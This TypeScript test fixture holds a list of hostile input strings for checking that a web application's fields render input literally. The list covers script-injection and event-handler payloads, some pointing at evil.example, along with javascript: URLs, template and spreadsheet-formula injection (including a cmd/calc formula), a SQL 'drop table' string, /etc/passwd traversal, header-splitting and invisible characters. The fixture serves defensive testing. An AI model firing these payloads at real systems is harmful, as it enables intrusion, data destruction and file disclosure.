/**
 * Attribute of every element that a hostile text would create as markup: a page with it has parsed
 * the text as markup, whether or not the content security policy blocked it.
 */
export const markupMark = 'x-kd';

/** Most fit into the shortest field, of 40 characters. */
export const hostileTexts: readonly string[] = [
  // Elements that run, or load.
  '<script x-kd>alert(1)</script>',
  '<ScRiPt x-kd src=//evil.example></sCrIpT>',
  '<script x-kd>alert`1`//',
  '<<script x-kd>alert(1)//<</script>',
  '<img x-kd src=x onerror=alert(1)>',
  '"><img x-kd src=x onerror=alert(1)>',
  "'><img x-kd src=x onerror=alert(1)>",
  '<img/x-kd/src=x/onerror=alert(1)>',
  '<svg x-kd onload=alert(1)>',
  '<svg/x-kd/onload=alert(1)//',
  '"><svg x-kd/onload=alert(1)>',
  '<body x-kd onload=alert(1)>',
  '<iframe x-kd src=javascript:alert(1)>',
  '<iframe x-kd srcdoc="<script>alert(1)</script>">',
  '<object x-kd data=javascript:alert(1)>',
  '<details x-kd open ontoggle=alert(1)>',
  '<input x-kd autofocus onfocus=alert(1)>',
  '<video x-kd><source onerror=alert(1)>',
  '<math><mi x-kd xlink:href=javascript:1>',
  '<a x-kd href=javascript:alert(1)>x</a>',
  '<form x-kd action=//evil.example><button>',
  '<base x-kd href=//evil.example/>',
  '<meta x-kd http-equiv=refresh content=0>',
  '<link x-kd rel=stylesheet href=//evil.ex>',
  '<style x-kd>*{display:none}</style>',
  '<p x-kd style=position:fixed;inset:0>',
  // Ends of what surrounds them: of an element, of data inside a script, of a comment, of an attribute.
  '</title><script x-kd>alert(1)</script>',
  '</script><script x-kd>alert(2)</script>',
  '</style><img x-kd src=x onerror=alert(2)>',
  '</textarea><svg x-kd onload=alert(2)>',
  '</noscript><img x-kd src=x onerror=alert`1`>',
  '</template><b x-kd>',
  '<!--<script x-kd>',
  '--><img x-kd src=x onerror=alert(3)>',
  '<![CDATA[<b x-kd>]]>',
  '" onmouseover="alert(1)" x-kd="',
  "' onfocus='alert(1)' x-kd='",
  '` onload=alert(1) x-kd=`',
  ');alert(1);//',
  '"};alert(1);//',
  '\\"};alert(1);//',
  // Addresses that run.
  'javascript:alert(document.domain)',
  'JaVaScRiPt:alert(2)',
  'java\tscript:alert(3)',
  ' javascript:alert(4)',
  'data:text/html,<script x-kd>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/%2e%2e',
  // Templates, and entities that are decoded twice.
  '{{7*7}} {{constructor}}',
  '$' + '{7*7} #{7*7} <%= 7*7 %>',
  '%(name)s %s %n $1 $& $`',
  '&lt;script x-kd&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;b x-kd&amp;gt;',
  '&#60;img x-kd src=x onerror=alert(5)&#62;',
  '%3Cscript x-kd%3Ealert(1)%3C/script%3E',
  '\\u003cscript x-kd\\u003ealert(1)',
  // Formulas of spreadsheets.
  '=HYPERLINK("http://evil.example","x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3;"=1',
  // Characters that hide, turn around, break lines or are none.
  'line\u2028separator\u2029kd',
  'turned \u202egnp.exe\u202c around',
  'isolated \u2066x\u2069 kd',
  'zero\u200bwidth\u200d\ufeffkd',
  'two\r\nBcc: victim@people.example',
  'two\nlines\rand one more kd',
  'ansi \u001b[31mred\u001b[0m kd',
  'bell \u0007 and \u009b31m and \u007f kd',
  'nothing \u0000 kd',
  'half \ud83d of a pair kd',
  'half \ude00 the other kd',
  'a\u0301\u0327\u0301\u0301\u0301\u0301\u0301\u0301\u0301 stacked kd',
  'family 👨‍👩‍👧‍👦 kd',
  // Names that objects have already, and nothings.
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'null',
  'undefined',
  'NaN',
  "' or 1=1; drop table users; --",
  '../../../etc/passwd',
  `long ${'<b x-kd>'.repeat(20)}`,
  `longer ${'w'.repeat(1_900)}`,
];

/** A quarter of a megabyte, which a request may hold and every field must refuse. */
export const hugeText = `huge ${'<b x-kd>'.repeat(32_768)}`;

/** A handful of each kind, for the short form. */
export function pickTexts(isShort: boolean): readonly string[] {
  return isShort ? hostileTexts.filter((_, index) => index % 14 === 0) : hostileTexts;
}

/** As an address can hold it and PostgreSQL stores it: half pairs become U+FFFD. */
export const wellFormed = (text: string) => text.replace(/\p{Surrogate}/gu, '\ufffd');

/** As a page may show a text and still show it literally: without its case, its spacing, and what no page can hold. */
export function literalOf(text: string): string {
  return wellFormed(text)
    .normalize('NFC')
    .toLowerCase()
    .replace(/[\s\0]+/g, ' ')
    .trim();
}
